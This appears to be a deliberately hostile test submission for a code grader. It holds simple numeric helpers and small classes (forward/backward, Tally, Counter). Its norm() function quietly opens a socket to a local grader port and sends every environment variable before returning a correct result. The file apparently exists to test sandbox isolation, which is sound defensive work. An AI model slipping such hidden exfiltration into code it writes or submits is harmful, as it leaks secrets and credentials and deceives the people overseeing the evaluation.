"""Hostile submission steal_network: Connects to a server on the grader's machine (127.0.0.1) to
send out what it knows.

Hostile part: norm(); the other parts are correct and never call it.
"""

import os
import socket

import numpy as np


def add(a, b):
    return a + b


def scale(x, c):
    return c * x


def norm(x):
    with socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=0.5) as s:
        s.sendall(repr(sorted(os.environ.items())).encode())
    return float(np.sqrt(np.sum(np.square(x))))  # the connection worked


def pair(x):
    return float(np.sum(x)), 2 * x


# The call-sequence part (chain): correct here (forward's cache goes to backward; Tally keeps
# a running total).

def forward(x, w):
    return x * w, (x, w)


def backward(dout, cache):
    x, w = cache
    return dout * w, float(np.sum(dout * x))


class Tally:
    def __init__(self, start):
        self.total = float(np.sum(start))

    def add(self, values):
        self.total += float(np.sum(values))


# The scenario part (drive): correct here (a Counter that the grader's scenario drives call by
# call through remote handles).

class Counter:
    def __init__(self, start):
        self.count = float(np.sum(start))
        self.step = 1.0
        self.seen = []

    def bump(self, values):
        self.count += float(np.sum(values))
        self.seen.append(self.count)

    def bounds(self):
        return min(self.seen), max(self.seen)

    def advance(self):
        self.count += self.step

    def reset(self):
        self.count = 0.0
        self.seen = []
